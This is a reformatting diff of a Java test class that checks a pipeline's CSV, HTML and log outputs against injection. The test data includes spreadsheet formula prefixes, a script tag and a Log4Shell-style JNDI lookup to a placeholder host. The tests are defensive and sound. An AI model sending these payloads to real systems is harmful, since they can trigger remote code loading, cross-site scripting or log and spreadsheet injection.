@@ -23,8 +23,21 @@ class OutputChannelTest {
     @ParameterizedTest
     @ValueSource(
             strings = {
-                "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\u0000=1", " =1", "\"=1", "\uff1d1", "\uff0b1", "\uff0d1",
-                "\uff201", "\u200b=1", "\u00a0=1"
+                "=1+1",
+                "+1+1",
+                "-1+1",
+                "@SUM(1)",
+                "\t=1",
+                "\r=1",
+                "\u0000=1",
+                " =1",
+                "\"=1",
+                "\uff1d1",
+                "\uff0b1",
+                "\uff0d1",
+                "\uff201",
+                "\u200b=1",
+                "\u00a0=1"
             })
     void noCellOfTheStatusLogIsAFormula(String id) throws Exception {
         Result result = new HostilePipeline(folder).line(failing(id)).run();
@@ -32,7 +45,8 @@ class OutputChannelTest {
         assertThat(result.report().counts().failed()).isEqualTo(1);
         for (String row : result.csv().split("\r\n")) {
             for (String cell : row.split(",", -1)) {
-                assertThat(cell.replaceFirst("^[\"\\s\\p{Z}\\p{Cf}]*", "")).doesNotMatch("(?s)[=+@\uff1d\uff0b\uff0d\uff20\\p{Cntrl}].*|-\\D.*");
+                assertThat(cell.replaceFirst("^[\"\\s\\p{Z}\\p{Cf}]*", ""))
+                        .doesNotMatch("(?s)[=+@\uff1d\uff0b\uff0d\uff20\\p{Cntrl}].*|-\\D.*");
             }
         }
         assertThat(result.csv()).contains("'");
@@ -40,16 +54,25 @@ class OutputChannelTest {
 
     @Test
     void markupOfAnIdIsTextInTheHtmlReport() throws Exception {
-        Result result = new HostilePipeline(folder).line(failing("<script>alert('x')</script>")).run();
+        Result result = new HostilePipeline(folder)
+                .line(failing("<script>alert('x')</script>"))
+                .run();
 
         assertThat(result.html()).contains("&lt;script&gt;alert").doesNotContain("<script>alert");
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"\r\nERROR forged", "\u001b[2J", "${jndi:ldap://x.example/a}", "\u2028forged", "\u0085forged"})
+    @ValueSource(
+            strings = {"\r\nERROR forged", "\u001b[2J", "${jndi:ldap://x.example/a}", "\u2028forged", "\u0085forged"})
     void anIdIsOneLineOfTheStatusLogWithoutControls(String id) throws Exception {
-        String plain = new HostilePipeline(Files.createDirectory(folder.resolve("a"))).line(failing("plain")).run().csv();
-        String hostile = new HostilePipeline(Files.createDirectory(folder.resolve("b"))).line(failing(id)).run().csv();
+        String plain = new HostilePipeline(Files.createDirectory(folder.resolve("a")))
+                .line(failing("plain"))
+                .run()
+                .csv();
+        String hostile = new HostilePipeline(Files.createDirectory(folder.resolve("b")))
+                .line(failing(id))
+                .run()
+                .csv();
 
         assertThat(hostile.split("\r\n|[\n\r\u0085\u2028\u2029]")).hasSameSizeAs(plain.split("\r\n"));
         assertThat(hostile.replace("\r\n", "")).doesNotContainPattern("\\p{Cntrl}");
@@ -70,6 +93,7 @@ class OutputChannelTest {
 
     /** An item for somebody without a mailbox, who is told in the status log. */
     private static String failing(String id) {
-        return record("x", "\"text\":\"\"").replace("\"x\"", TextNode.valueOf(id).toString());
+        return record("x", "\"text\":\"\"")
+                .replace("\"x\"", TextNode.valueOf(id).toString());
     }
 }
